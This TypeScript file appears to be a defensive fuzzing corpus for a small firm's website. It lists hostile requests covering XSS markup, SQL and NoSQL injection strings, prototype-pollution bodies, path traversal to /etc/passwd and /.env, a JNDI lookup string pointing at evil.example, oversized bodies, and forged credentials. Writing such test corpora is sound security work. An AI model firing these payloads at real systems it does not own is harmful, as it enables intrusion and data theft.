/**
 * What the open internet sends a small firm's website, as data: each entry is one
 * request the hostile runner fires at a real server. Entries are built from the lists
 * below (payloads × fields × endpoints) so a new payload reaches every place it applies.
 */

export type Credential = 'none' | 'valid' | 'forged' | 'expired' | 'swapped' | 'username-only';

export interface HostileRequest {
  name: string;
  method: string;
  path: string;
  headers?: Record<string, string>;
  /** A string, raw bytes, or a function that makes a large body only when the request is sent. */
  body?: string | Uint8Array | (() => string | Uint8Array | ReadableStream<Uint8Array>);
  credential?: Credential;
  /** Whether this request must change nothing stored (the runner also checks that 200s to a form store exactly one). */
  mustNotStore?: boolean;
}

const JSON_TYPE = { 'Content-Type': 'application/json' };

export const FORMS = {
  about: {
    path: '/aboutform',
    valid: { name: 'Hostile Test', address: 'Plot 1, Waluj MIDC', message: 'Checking the server.', phoneno: '9876543210' },
    textFields: ['name', 'address', 'message'],
  },
  contact: {
    path: '/addcontactdata',
    valid: {
      name: 'Hostile Test',
      number: '9876543210',
      enquiry: 'General Enquiry',
      email: 'probe@example.in',
      message: 'Checking the server.',
    },
    textFields: ['name', 'email', 'message'],
  },
} as const;

const WRONG_TYPES: [string, unknown][] = [
  ['an array', ['Asha']],
  ['an object', { first: 'Asha' }],
  ['a number', 42],
  ['a boolean', true],
  ['null', null],
];

const MALFORMED = [
  '{',
  '{"name": }',
  "{'name': 'single quotes'}",
  '{"name": "a",}',
  'nul',
  '[1, 2',
  '{"name": "unterminated',
  '\u0000',
  '{"a":1}{"b":2}',
  'undefined',
];

const PROTOTYPE_BODIES = (valid: Record<string, string>): [string, string][] => [
  ['__proto__ at the top', `{"__proto__": {"polluted": "yes", "isAdmin": true}, ${JSON.stringify(valid).slice(1)}`],
  ['constructor.prototype at the top', `{"constructor": {"prototype": {"polluted": "yes"}}, ${JSON.stringify(valid).slice(1)}`],
  ['prototype at the top', `{"prototype": {"polluted": "yes"}, ${JSON.stringify(valid).slice(1)}`],
  ['__proto__ inside a field', JSON.stringify({ ...valid, name: JSON.parse('{"__proto__": {"polluted": "yes"}}') as unknown })],
  ['constructor inside a field', JSON.stringify({ ...valid, message: { constructor: { prototype: { polluted: 'yes' } } } })],
  ['__proto__ inside an array', JSON.stringify({ ...valid, name: [JSON.parse('{"__proto__": {"polluted": "yes"}}')] })],
  ['__proto__ as the whole body', '{"__proto__": {"polluted": "yes"}}'],
];

/** Text that must be stored and shown exactly as typed, never interpreted. */
export const MARKUP_PAYLOADS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  "javascript:alert('x')",
  '<iframe src="https://evil.example"></iframe>',
  '{{constructor.constructor("alert(1)")()}}',
  '<a href="javascript:alert(1)">click</a>',
  '</textarea><script>alert(1)</script>',
];

export const INJECTION_PAYLOADS = [
  "' OR '1'='1",
  "'; DROP TABLE enquiries; --",
  '" OR ""="',
  '1; SELECT * FROM users',
  '$where: function() { return true }',
  '{"$gt": ""}',
  '../../etc/passwd',
  '${jndi:ldap://evil.example/a}',
];

const NOSQL_OPERATORS: unknown[] = [{ $gt: '' }, { $ne: null }, { $regex: '.*' }, { $where: 'sleep(1000)' }];

/** Unusual but legitimate names: each must be stored as sent (or, for broken UTF-8, refused). */
const STRANGE_NAMES: [string, string][] = [
  ['a NUL byte in the name', 'Asha\u0000Patil'],
  ['a right-to-left override', 'Asha \u202Egnp.exe'],
  ['emoji', 'Asha 🙏🏽🚀'],
  ['zero-width characters', 'A\u200Bs\u200Dh\uFEFFa'],
  ['Devanagari', 'आशा पाटील'],
];

/** A valid body whose name holds the bytes C3 28, which are not valid UTF-8. */
function invalidUtf8Body(valid: Record<string, string>): Uint8Array {
  const [before, after] = JSON.stringify({ ...valid, name: 'A@@sha' }).split('@@') as [string, string];
  const encoder = new TextEncoder();
  return new Uint8Array([...encoder.encode(before), 0xc3, 0x28, ...encoder.encode(after)]);
}

const ADMIN_GETS = ['/fetchaboutdata', '/fetchcontactusdata', '/admin/session'];
const ADMIN_DELETES: [string, string][] = [
  ['/deleteproduct', 'aid'],
  ['/deletecontact', 'cid'],
];

const HOSTILE_IDS: [string, unknown][] = [
  ['a number', 42],
  ['a boolean', true],
  ['null', null],
  ['an array', ['id']],
  ['an object', { id: 'x' }],
  ['an empty string', ''],
  ['path traversal', '../../etc/passwd'],
  ['encoded traversal', '..%2f..%2fsecurity.json'],
  ['a 10 KB id', 'x'.repeat(10_000)],
  ['__proto__', '__proto__'],
  ['constructor', 'constructor'],
  ['SQL injection', "' OR 1=1 --"],
  ['NoSQL operator', { $ne: null }],
  ['emoji', '🙂'],
];

function repeatChunks(size: number): ReadableStream<Uint8Array> {
  const chunk = new TextEncoder().encode('x'.repeat(1024));
  let sent = 0;
  return new ReadableStream({
    pull(controller) {
      if (sent >= size) return controller.close();
      controller.enqueue(chunk);
      sent += chunk.length;
    },
  });
}

function formRequests(): HostileRequest[] {
  const requests: HostileRequest[] = [];
  for (const [kind, form] of Object.entries(FORMS)) {
    const valid = form.valid as Record<string, string>;
    const post = (name: string, body: HostileRequest['body'], extra: Partial<HostileRequest> = {}): HostileRequest => ({
      name: `${kind}: ${name}`,
      method: 'POST',
      path: form.path,
      headers: JSON_TYPE,
      body,
      mustNotStore: true,
      ...extra,
    });

    MALFORMED.forEach((text, index) => requests.push(post(`malformed JSON #${index + 1}`, text)));
    const whole = JSON.stringify(valid);
    [0.2, 0.4, 0.6, 0.8, 0.95].forEach((share) =>
      requests.push(post(`body truncated at ${share * 100}%`, whole.slice(0, Math.floor(whole.length * share)))),
    );
    for (const field of Object.keys(valid)) {
      for (const [label, value] of WRONG_TYPES) requests.push(post(`${field} is ${label}`, JSON.stringify({ ...valid, [field]: value })));
      const { [field]: _missing, ...rest } = valid;
      requests.push(post(`without ${field}`, JSON.stringify(rest), { mustNotStore: false }));
    }
    requests.push(post('an empty object', '{}'), post('an empty body', ''));
    requests.push(
      post('an extra field', JSON.stringify({ ...valid, isAdmin: true })),
      post('an extra _id', JSON.stringify({ ...valid, _id: 'chosen-by-attacker' })),
      post('an extra createdAt', JSON.stringify({ ...valid, createdAt: '1970-01-01T00:00:00Z' })),
    );
    for (const [label, size] of [
      ['10 KB', 10_000],
      ['100 KB', 100_000],
      ['10 MB', 10_000_000],
    ] as const) {
      requests.push(post(`a ${label} name`, () => JSON.stringify({ ...valid, name: 'x'.repeat(size) })));
    }
    for (const [label, size] of [
      ['20 KB', 20 * 1024],
      ['1 MB', 1024 * 1024],
    ] as const) {
      requests.push(post(`a chunked body of ${label}, past the limit`, () => repeatChunks(size)));
    }
    for (const type of [
      'text/plain',
      'application/x-www-form-urlencoded',
      'multipart/form-data; boundary=x',
      'application/xml',
      'application/json-patch+json',
      '',
    ]) {
      requests.push(post(`Content-Type "${type || 'missing'}"`, whole, { headers: type ? { 'Content-Type': type } : {} }));
    }
    for (const method of ['GET', 'PUT', 'DELETE', 'PATCH', 'OPTIONS']) {
      requests.push({ name: `${kind}: ${method}`, method, path: form.path, mustNotStore: true });
    }
    for (const [label, body] of PROTOTYPE_BODIES(valid)) requests.push(post(label, body));
    for (const [label, name] of STRANGE_NAMES) requests.push(post(label, JSON.stringify({ ...valid, name }), { mustNotStore: false }));
    requests.push(post('invalid UTF-8 bytes in the name', invalidUtf8Body(valid)));
    for (const field of form.textFields) {
      for (const payload of [...MARKUP_PAYLOADS, ...INJECTION_PAYLOADS]) {
        requests.push(
          post(`${field} holds ${JSON.stringify(payload)}`, JSON.stringify({ ...valid, [field]: payload }), { mustNotStore: false }),
        );
      }
    }
    for (const operator of NOSQL_OPERATORS)
      requests.push(post(`name is the operator ${JSON.stringify(operator)}`, JSON.stringify({ ...valid, name: operator })));
  }
  return requests;
}

function adminRequests(): HostileRequest[] {
  const requests: HostileRequest[] = [];
  const intruders: Credential[] = ['none', 'forged', 'expired', 'swapped', 'username-only'];
  for (const credential of intruders) {
    for (const path of ADMIN_GETS)
      requests.push({ name: `GET ${path} with ${credential} credentials`, method: 'GET', path, credential, mustNotStore: true });
    for (const [path, field] of ADMIN_DELETES) {
      requests.push({
        name: `${path} with ${credential} credentials`,
        method: 'POST',
        path,
        headers: JSON_TYPE,
        body: JSON.stringify({ [field]: 'any' }),
        credential,
        mustNotStore: true,
      });
    }
    requests.push({
      name: `logout with ${credential} credentials`,
      method: 'POST',
      path: '/admin/logout',
      headers: JSON_TYPE,
      body: '{}',
      credential,
      mustNotStore: true,
    });
  }
  for (const [path, field] of ADMIN_DELETES) {
    for (const [label, id] of HOSTILE_IDS) {
      requests.push({
        name: `${path} with ${label} as the id`,
        method: 'POST',
        path,
        headers: JSON_TYPE,
        body: JSON.stringify({ [field]: id }),
        credential: 'valid',
        mustNotStore: true,
      });
    }
    for (const origin of ['https://evil.example', 'null', 'http://127.0.0.1.evil.example']) {
      requests.push({
        name: `${path} from ${origin}`,
        method: 'POST',
        path,
        headers: { ...JSON_TYPE, Origin: origin },
        body: JSON.stringify({ [field]: 'any' }),
        credential: 'valid',
        mustNotStore: true,
      });
    }
    requests.push({
      name: `${path} as a cross-site form post`,
      method: 'POST',
      path,
      headers: { 'Content-Type': 'application/x-www-form-urlencoded', 'Sec-Fetch-Site': 'cross-site' },
      body: `${field}=any`,
      credential: 'valid',
      mustNotStore: true,
    });
  }
  const loginBodies: [string, string][] = [
    ['username as an array', JSON.stringify({ username: ['admin'], password: 'x' })],
    ['password as an object', JSON.stringify({ username: 'admin', password: { $ne: '' } })],
    ['a 10 KB password', JSON.stringify({ username: 'admin', password: 'p'.repeat(10_000) })],
    ['__proto__ body', '{"__proto__": {"isAdmin": true}, "username": "admin", "password": "x"}'],
    ['SQL in the username', JSON.stringify({ username: "admin' --", password: 'x' })],
    ['malformed JSON', '{"username": "admin", '],
    ['no fields', '{}'],
  ];
  for (const path of ['/admin/login', '/admin/reset-password', '/admin/reset-username']) {
    for (const [label, body] of loginBodies)
      requests.push({ name: `${path}: ${label}`, method: 'POST', path, headers: JSON_TYPE, body, mustNotStore: true });
    requests.push({
      name: `${path} from another origin`,
      method: 'POST',
      path,
      headers: { ...JSON_TYPE, Origin: 'https://evil.example' },
      body: '{"username":"admin","password":"x"}',
      mustNotStore: true,
    });
  }
  return requests;
}

function transportRequests(): HostileRequest[] {
  const requests: HostileRequest[] = [];
  for (const size of [8 * 1024, 15 * 1024, 64 * 1024]) {
    requests.push({
      name: `a ${size / 1024} KB header on a page`,
      method: 'GET',
      path: '/about',
      headers: { 'X-Padding': 'x'.repeat(size) },
      mustNotStore: true,
    });
    requests.push({
      name: `a ${size / 1024} KB cookie on an enquiry`,
      method: 'POST',
      path: '/addcontactdata',
      headers: { ...JSON_TYPE, Cookie: `session=${'y'.repeat(size)}` },
      body: JSON.stringify(FORMS.contact.valid),
      mustNotStore: false,
    });
  }
  for (const path of [
    '/../../package.json',
    '/assets/..%2f..%2fpackage.json',
    '/%2e%2e/%2e%2e/etc/passwd',
    '/..\\..\\package.json',
    '/data/security.json',
    '/.env',
    '/server.lock',
    '/%00',
    '/about%00.html',
  ]) {
    requests.push({ name: `GET ${path}`, method: 'GET', path, mustNotStore: true });
  }
  return requests;
}

/** The lead desk's API: every endpoint without a proper session, then hostile ids, queries and bodies with one. */
function deskRequests(): HostileRequest[] {
  const requests: HostileRequest[] = [];
  const one = '/admin/api/enquiries/any-id';
  const endpoints: [string, string, string?][] = [
    ['GET', '/admin/api/enquiries'],
    ['GET', one],
    ['GET', '/admin/api/enquiries.csv'],
    ['GET', '/admin/api/stats'],
    ['GET', '/admin/api/users'],
    ['GET', '/admin/api/audit'],
    ['PATCH', one, '{"status":"contacted"}'],
    ['POST', `${one}/notes`, '{"text":"x"}'],
    ['DELETE', one, '{}'],
    ['POST', '/admin/api/users', '{"username":"intruder","password":"intruder pass","role":"owner"}'],
    ['PATCH', '/admin/api/users/owner', '{"role":"staff"}'],
    ['DELETE', '/admin/api/users/owner', '{}'],
  ];
  for (const credential of ['none', 'forged', 'expired', 'swapped', 'username-only'] as Credential[]) {
    for (const [method, path, body] of endpoints) {
      requests.push({
        name: `${method} ${path} with ${credential} credentials`,
        method,
        path,
        headers: JSON_TYPE,
        ...(body && { body }),
        credential,
        mustNotStore: true,
      });
    }
  }
  for (const [label, id] of HOSTILE_IDS.filter(([, value]) => typeof value === 'string' && value !== '') as [string, string][]) {
    for (const [method, suffix, body] of [
      ['GET', '', undefined],
      ['PATCH', '', '{"status":"contacted"}'],
      ['POST', '/notes', '{"text":"x"}'],
      ['DELETE', '', '{}'],
    ] as const) {
      requests.push({
        name: `${method} an enquiry with ${label} as the id`,
        method,
        path: `/admin/api/enquiries/${encodeURIComponent(id)}${suffix}`,
        headers: JSON_TYPE,
        ...(body && { body }),
        credential: 'valid',
        mustNotStore: true,
      });
    }
  }
  const queries = [
    'q=' + encodeURIComponent('.*'),
    'q=' + encodeURIComponent("' OR 1=1 --"),
    'q=' + encodeURIComponent('%_\\'),
    'q=' + 'x'.repeat(10_000),
    'status=' + encodeURIComponent('{"$ne":null}'),
    'form=__proto__',
    'limit=-1',
    'limit=1e9',
    'limit=NaN',
    'cursor=' + encodeURIComponent('9999999999999999999999.1'),
    'cursor=' + encodeURIComponent("1' OR '1'='1"),
    'phone=' + encodeURIComponent('98220%'),
    'due=yesterday',
    'q=a&q=b&form=contact&form=about',
  ];
  for (const query of queries) {
    for (const path of ['/admin/api/enquiries', '/admin/api/enquiries.csv', '/admin/api/audit']) {
      requests.push({
        name: `GET ${path}?${query.slice(0, 40)}`,
        method: 'GET',
        path: `${path}?${query}`,
        credential: 'valid',
        mustNotStore: true,
      });
    }
  }
  const changes = [
    ['status as a list', '{"status":["closed"]}'],
    ['status as an object', '{"status":{"$ne":"new"}}'],
    ['an unknown status', '{"status":"approved-by-hacker"}'],
    ['a reason without a closing status', '{"status":"contacted","closedReason":"other"}'],
    ['a date that does not exist', '{"followUpOn":"2026-13-45"}'],
    ['a date with a time', '{"followUpOn":"2026-12-01T00:00:00Z"}'],
    ['__proto__', '{"__proto__":{"status":"closed"}}'],
    ['constructor', '{"constructor":{"prototype":{"polluted":true}}}'],
    ['an empty object', '{}'],
    ['null', 'null'],
    ['malformed JSON', '{"status": '],
  ];
  for (const [label, body] of changes) {
    requests.push({
      name: `PATCH an enquiry with ${label}`,
      method: 'PATCH',
      path: one,
      headers: JSON_TYPE,
      body,
      credential: 'valid',
      mustNotStore: true,
    });
  }
  for (const [label, body] of [
    ['text as an object', '{"text":{"$gt":""}}'],
    ['a 100 KB note', () => JSON.stringify({ text: 'n'.repeat(100_000) })],
    ['an extra field', '{"text":"x","by":"someone-else"}'],
  ] as const) {
    requests.push({
      name: `a note with ${label}`,
      method: 'POST',
      path: `${one}/notes`,
      headers: JSON_TYPE,
      body,
      credential: 'valid',
      mustNotStore: true,
    });
  }
  for (const [label, body] of [
    ['a traversal username', '{"username":"../../security","password":"long enough pass","role":"staff"}'],
    ['the role root', '{"username":"rooty","password":"long enough pass","role":"root"}'],
    ['a __proto__ username', '{"username":"__proto__","password":"long enough pass","role":"staff"}'],
    ['a password as an array', '{"username":"arrays","password":["a"],"role":"staff"}'],
  ] as const) {
    requests.push({
      name: `a new account with ${label}`,
      method: 'POST',
      path: '/admin/api/users',
      headers: JSON_TYPE,
      body,
      credential: 'valid',
      mustNotStore: true,
    });
  }
  requests.push({
    name: 'PATCH an enquiry from another origin',
    method: 'PATCH',
    path: one,
    headers: { ...JSON_TYPE, Origin: 'https://evil.example' },
    body: '{"status":"contacted"}',
    credential: 'valid',
    mustNotStore: true,
  });
  return requests;
}

export const HOSTILE_CORPUS: HostileRequest[] = [...formRequests(), ...adminRequests(), ...deskRequests(), ...transportRequests()];
